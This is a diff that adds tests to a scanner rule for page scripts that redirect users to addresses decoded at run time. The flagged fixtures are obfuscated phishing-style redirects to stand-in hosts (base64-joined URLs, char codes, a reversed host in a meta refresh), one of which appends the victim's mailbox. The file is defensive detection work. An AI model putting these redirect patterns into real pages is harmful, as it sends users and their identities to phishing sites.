@@ -448,3 +448,47 @@ describe('an agent told to destroy what is not the project', () => {
     ).toEqual([]);
   });
 });
+
+describe('the page sent, unprompted, to an address decoded at run time', () => {
+  const decodedRedirects = (code: string) =>
+    load({ 'index.js': code }).evidence.filter((f) => f.rule === 'js.decoded-remote-script');
+  it('base64 halves joined, the victim mailbox from a global, location.replace after a timer', () => {
+    expect(
+      decodedRedirects(`(function () {
+  var h = ['aHR0cHM6Ly9sb2dpbi1kb2NzLmV4YW1wbGUv', 'bzM2NS8/c2lkPQ=='];
+  var to = atob(h[0]) + atob(h[1]);
+  setTimeout(function () { window.location.replace(to + btoa(window.nfk || '')); }, 800);
+})();`),
+    ).toHaveLength(1);
+  });
+  it('char codes through a helper into location.href, and a reversed host into a meta refresh', () => {
+    expect(
+      decodedRedirects(`var c = [104,116,116,112,115,58,47,47,115,115,111,46,101,120,97,109,112,108,101,47];
+function dest() { return String.fromCharCode.apply(null, c); }
+window.location.href = dest() + '?e=' + location.hash.slice(1);`),
+    ).toHaveLength(1);
+    expect(
+      decodedRedirects(`const t = 'elpmaxe.weiv-scod//:sptth'.split('').reverse().join('');
+document.write('<meta http-equiv="refresh" content="0;url=' + t + '">');`),
+    ).toHaveLength(1);
+  });
+  it("quiet: a return address decoded from the login state, and a decoded path on the site's own origin", () => {
+    expect(
+      decodedRedirects(`const state = new URLSearchParams(location.search).get('state');
+if (state) { const back = JSON.parse(atob(state)).returnTo; if (back.startsWith(location.origin)) location.replace(back); }
+if (!state) location.replace(atob('L2Rhc2hib2FyZA=='));`),
+    ).toEqual([]);
+  });
+  it('quiet: a decoded address the code also writes out, or a redirect run from a click', () => {
+    expect(
+      decodedRedirects(`const HOST = 'https://pay.example-shop.com';
+const u = atob('aHR0cHM6Ly9wYXkuZXhhbXBsZS1zaG9wLmNvbS9jaGVja291dA==');
+location.assign(u);`),
+    ).toEqual([]);
+    expect(
+      decodedRedirects(
+        `document.getElementById('go').addEventListener('click', () => { location.href = atob('aHR0cHM6Ly9oZWxwLmV4YW1wbGUv'); });`,
+      ),
+    ).toEqual([]);
+  });
+});
